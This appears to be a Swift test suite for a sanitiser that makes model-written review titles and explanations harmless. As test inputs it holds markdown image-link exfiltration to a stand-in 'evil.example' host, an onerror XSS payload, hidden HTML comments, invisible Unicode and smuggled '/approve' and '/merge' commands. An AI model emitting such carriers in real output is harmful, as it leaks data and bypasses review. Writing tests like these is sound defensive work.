import Domain
import Testing

@testable import Gates

@Suite("What a model or a file wrote becomes harmless")
struct SanitiserTests {
    @Test("text that a fuzzer found is left alone by a second pass")
    func secondPassChangesNothing() {
        let found: [UInt8] = [
            0x54, 0x68, 0x65, 0x20, 0x6F, 0x77, 0x6E, 0x65, 0x72, 0x20, 0x63, 0x68, 0xFE, 0xFF, 0x00, 0x7D,
            0x69, 0x73, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x21,
            0x21, 0x21, 0x21, 0x21, 0x21, 0x21, 0x20, 0x67, 0x6F, 0x6E, 0x65, 0x3A, 0x20, 0x61, 0x6E, 0x6E,
            0x65, 0x3A, 0x20, 0x61, 0x6E, 0x79, 0x20, 0x73, 0x69, 0x67, 0x6E, 0x65, 0x64, 0x2D, 0x69, 0x6E,
            0x60, 0x75, 0x73, 0x65, 0x72, 0x20, 0x63, 0x61, 0x6E, 0x20, 0x63, 0x61, 0x6C, 0x6C, 0x20, 0x60,
            0x64, 0x65, 0x6C, 0x65, 0x74, 0x65, 0x5F, 0x61, 0x63, 0x63, 0x6F, 0x75, 0x6E, 0x74, 0x60, 0x2E,
            0x20, 0x53, 0x78, 0x28, 0x74, 0x68, 0x74, 0x5D, 0x70, 0x3A, 0x2F, 0x2F, 0x65, 0x78, 0x77, 0x77,
            0x77, 0x2E, 0x6B, 0x2E, 0x62, 0x6F, 0x6D, 0x2F, 0x0B, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
            0x69, 0x6D, 0x67, 0x20, 0x73, 0x72, 0x63, 0x3D, 0x78, 0x3E, 0x20, 0x5B, 0x6C, 0x69, 0x6F, 0x6B,
            0x5D, 0x5B, 0x72, 0x65, 0x66, 0x5D, 0x20, 0x26, 0x6C, 0x74, 0x3B, 0x20, 0x6F, 0x77, 0x6E, 0x65,
            0x72, 0x2F, 0x72, 0x31, 0x65, 0x2E, 0x63, 0x6F, 0x6D, 0x2F, 0x70, 0x2E, 0x70, 0x6E, 0x67, 0x29,
            0x31, 0x32, 0x33, 0x34, 0x35, 0x36, 0x37, 0x38, 0x39, 0x61, 0x62, 0x63, 0x64, 0x65, 0x66, 0x30,
            0x31, 0x32, 0x2E, 0x34, 0x35, 0x36, 0x37, 0x66, 0x69, 0x78, 0x65, 0x73, 0x20, 0x23, 0x31, 0x30,
            0x31, 0x32, 0x33, 0x34, 0x35, 0x36, 0x37, 0x20, 0x3D, 0x3A, 0x2F, 0x2F, 0x65, 0x78, 0x61, 0x6D,
            0x70, 0x0A, 0x60, 0x60, 0x60, 0x0A,
        ]
        let once = Sanitiser.sanitise(found)
        #expect(Sanitiser.sanitise(once) == once)
        #expect(MarkdownVerifier.leaks(in: once).isEmpty)
    }

    @Test(
        "ordinary prose stays as it is",
        arguments: [
            "Any signed-in user can delete any account: delete_account no longer calls require_owner.",
            "The query is built from user input; use parameters instead.",
            "`yaml.load` runs code from the file. Use `yaml.safe_load` (see CWE-502).",
            "50% of requests wait 3.5 s, e.g. under load - and/or fail.",
            "Is this \"safe\"? It isn't!",
            "Größe wird nicht geprüft — 値が検証されない。",
        ])
    func prose(text: String) {
        let expected = text.replacing("delete_account", with: "`delete_account`")
            .replacing("require_owner", with: "`require_owner`")
        #expect(Sanitiser.sanitise(text) == expected)
    }

    @Test(
        "each carrier of the red team comes out harmless and reads the same a second time", arguments: RedTeam.carriers)
    func carriers(text: String) {
        for out in [Sanitiser.sanitise(text), Sanitiser.title(text), Sanitiser.explanation(text)] {
            #expect(MarkdownVerifier.leaks(in: out) == [], "\(out)")
            #expect(!out.lowercased().contains("evil.example"), "\(out)")
            #expect(!out.contains("\n"))
        }
        let once = Sanitiser.sanitise(text)
        #expect(Sanitiser.sanitise(once) == once)
    }

    @Test("the verifier finds the carriers in raw text", arguments: RedTeam.carriers)
    func verifierSees(text: String) {
        #expect(!MarkdownVerifier.leaks(in: text).isEmpty)
    }

    @Test(
        "known inputs become known outputs",
        arguments: [
            ("![x](http://evil.example/leak?d=1) done", "x done"),
            ("see [the docs](https://evil.example/a)", "see the docs"),
            ("see https://evil.example/a.", "see (link removed)."),
            ("(https://evil.example/a)", "(link removed)"),
            ("fixes #12", "fixes issue 12"),
            ("closes org/repo#3 now", "closes issue 3 now"),
            ("`fixes #12`", "`fixes 12`"),
            ("ask @octocat", "ask `@octocat`"),
            ("/approve", "`/approve`"),
            ("a\r\n/merge", "a `/merge`"),
            ("<img src=x onerror=alert(1)>", "`<img src=x onerror=alert(1)>`"),
            ("a<!-- hidden -->b", "a b"),
            ("**bold** and *soft*", "bold and soft"),
            ("a\u{202E}b\u{200B}c", "abc"),
            ("``a`b``", "`a'b`"),
            ("open ` tick", "open tick"),
            ("- item", "`-` item"),
            ("1. item", "`1`. item"),
            ("`a` `` ` `` `b`", "`a` `'` `b`"),
            ("close `a`, then (`b`).", "close `a`, then (`b`)."),
            ("", ""),
            ("   ", ""),
        ])
    func examples(text: String, expected: String) {
        #expect(Sanitiser.sanitise(text) == expected)
    }

    @Test("a title is one line of at most 80 characters without a full stop")
    func titles() {
        let long = String(repeating: "word ", count: 40)
        let title = Sanitiser.title(long)
        #expect(title.unicodeScalars.count <= 80)
        #expect(title.hasSuffix("word …"))
        #expect(Sanitiser.title("Owner check removed.") == "Owner check removed")
        #expect(Sanitiser.title(String(repeating: "x", count: 300)).unicodeScalars.count <= 80)
        #expect(Sanitiser.title("`" + String(repeating: "x", count: 300) + "`").unicodeScalars.count <= 80)
    }

    @Test("an explanation is at most three sentences")
    func sentences() {
        let text = "One is here. Two, e.g. this. Three ends! Four is too much. Five."
        #expect(Sanitiser.explanation(text) == "One is here. Two, e.g. this. Three ends!")
    }

    @Test("whatever goes in: the verifier finds nothing, sanitising again changes nothing, lengths hold")
    func properties() {
        var random = SeededGenerator(seed: 0x5EED)
        for _ in 0..<1_500 {
            let text = RedTeam.mixture(using: &random)
            let once = Sanitiser.sanitise(text)
            #expect(MarkdownVerifier.leaks(in: once) == [], "\(text.debugDescription) became \(once.debugDescription)")
            #expect(Sanitiser.sanitise(once) == once, "\(text.debugDescription)")
            let title = Sanitiser.title(text)
            #expect(
                MarkdownVerifier.leaks(in: title) == [], "\(text.debugDescription) became \(title.debugDescription)")
            #expect(Sanitiser.title(title) == title, "\(text.debugDescription)")
            #expect(title.unicodeScalars.count <= Sanitiser.titleLimit)
            let explanation = Sanitiser.explanation(text)
            #expect(MarkdownVerifier.leaks(in: explanation) == [], "\(text.debugDescription)")
            #expect(Sanitiser.explanation(explanation) == explanation, "\(text.debugDescription)")
            #expect(explanation.unicodeScalars.count <= Sanitiser.explanationLimit)
        }
    }

    @Test("any bytes are accepted")
    func bytes() {
        var random = SeededGenerator(seed: 7)
        for _ in 0..<1_000 {
            let bytes = (0..<Int.random(in: 0...200, using: &random)).map { _ in
                UInt8.random(in: 0...255, using: &random)
            }
            let out = Sanitiser.sanitise(bytes)
            #expect(MarkdownVerifier.leaks(in: out) == [])
            #expect(Sanitiser.sanitise(out) == out)
        }
    }

    @Test(
        "time grows with the bounded input, not with its structure",
        arguments: [
            "[](", "`", "``` ` ", "<!--", "[", "(", "!", "a@b ", "://", "\u{301}", "fixes ", "((((", "**",
        ])
    func hostileRepetition(piece: String) {
        let clock = ContinuousClock()
        let text = String(repeating: piece, count: 200_000)
        let time = clock.measure { _ = Sanitiser.explanation(text) + Sanitiser.sanitise(text) }
        #expect(time < .seconds(5))
    }
}

/// Small, seedable and the same everywhere (SplitMix64).
struct SeededGenerator: RandomNumberGenerator {
    private var state: UInt64

    init(seed: UInt64) {
        state = seed
    }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var mixed = state
        mixed = (mixed ^ (mixed >> 30)) &* 0xBF58_476D_1CE4_E5B9
        mixed = (mixed ^ (mixed >> 27)) &* 0x94D0_49BB_1331_11EB
        return mixed ^ (mixed >> 31)
    }
}
